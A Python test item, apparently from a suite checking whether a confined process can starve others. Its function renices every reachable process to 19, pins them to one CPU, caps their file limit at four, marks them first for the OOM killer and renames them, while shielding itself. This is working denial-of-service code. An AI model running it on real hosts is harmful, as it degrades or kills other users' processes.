"""Slows, pins, starves and marks for death other processes: nice, affinity, scheduler, rlimits, oom, ioprio."""
# Row: 15
# Danger: starves other processes
import loot, os, resource

def strike():
    loot.quietly(os.nice, -20)
    loot.quietly(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99)) and loot.reached("realtime")
    if os.sched_getscheduler(0) != os.SCHED_OTHER:
        loot.reached("realtime")
        os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
    for pid in loot.every_pid():
        if loot.quietly(os.setpriority, os.PRIO_PROCESS, pid, 19) is None and loot.quietly(os.getpriority, os.PRIO_PROCESS, pid) == 19:
            loot.reached("nice")
        if loot.quietly(os.sched_getaffinity, pid):
            loot.quietly(os.sched_setaffinity, pid, {0})
        if loot.quietly(resource.prlimit, pid, resource.RLIMIT_NOFILE, (4, 4)):
            loot.reached("prlimit")
    for pid in loot.pids():
        loot.attempt("oom", lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"))
        loot.attempt("comm", lambda: open(f"/proc/{pid}/comm", "w").write("attacked"))
    loot.attempt("oom-own", lambda: open("/proc/self/oom_score_adj", "w").write("-1000"))
